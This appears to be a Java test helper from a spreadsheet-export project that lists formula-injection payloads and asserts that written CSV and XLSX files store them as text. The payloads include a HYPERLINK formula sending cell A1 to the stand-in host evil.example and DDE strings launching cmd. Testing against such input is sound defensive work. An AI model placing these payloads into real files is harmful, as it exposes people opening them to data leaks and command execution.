package org.maagal.spreadsheets;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;

/**
 * What people type to make a spreadsheet program run something, and how the tests read the files Maagal writes
 * back: a CSV as its cells (commons-csv, after the byte order mark), a workbook as its cells.
 */
public final class HostileCells {

  /** Sends the sheet's neighbour cell to a stranger's server when clicked. */
  public static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"לחצו כאן\")";
  public static final String PLUS = "+1+cmd|' /C calc'!A0";
  /** Dynamic data exchange: a command, behind a minus sign. */
  public static final String DDE = "-2+3+cmd|' /C calc'!A0";
  public static final String AT = "@SUM(1+1)*cmd|' /C calc'!A0";
  public static final String TAB = "\t=1+1";
  public static final String CARRIAGE_RETURN = "\r=1+1";
  public static final List<String> ALL = List.of(HYPERLINK, PLUS, DDE, AT, TAB, CARRIAGE_RETURN);

  private HostileCells() {
  }

  /** The records of a CSV file we wrote, its header first; the file starts with a byte order mark. */
  public static List<List<String>> csvRecords(byte[] csv) {
    String text = new String(csv, UTF_8);
    assertThat(text).startsWith("\uFEFF");
    try (var parser = CSVFormat.RFC4180.parse(new StringReader(text.substring(1)))) {
      var records = new ArrayList<List<String>>();
      parser.forEach(record -> records.add(record.toList()));
      return records;
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** The cells of every sheet of a workbook we wrote. */
  public static List<Cell> workbookCells(byte[] xlsx) {
    try (var workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
      var cells = new ArrayList<Cell>();
      for (Sheet sheet : workbook) {
        for (Row row : sheet) {
          row.forEach(cells::add);
        }
      }
      return cells;
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** No cell of the workbook is a formula, and each text starts a cell that holds it as text. */
  public static void assertWrittenAsText(byte[] xlsx, String... texts) {
    var cells = workbookCells(xlsx);
    assertThat(cells).as("formula cells").noneMatch(cell -> cell.getCellType() == CellType.FORMULA);
    for (String text : texts) {
      assertThat(cells).as(text).anySatisfy(cell -> {
        assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
        assertThat(cell.getStringCellValue()).startsWith(text.strip());
      });
    }
  }
}
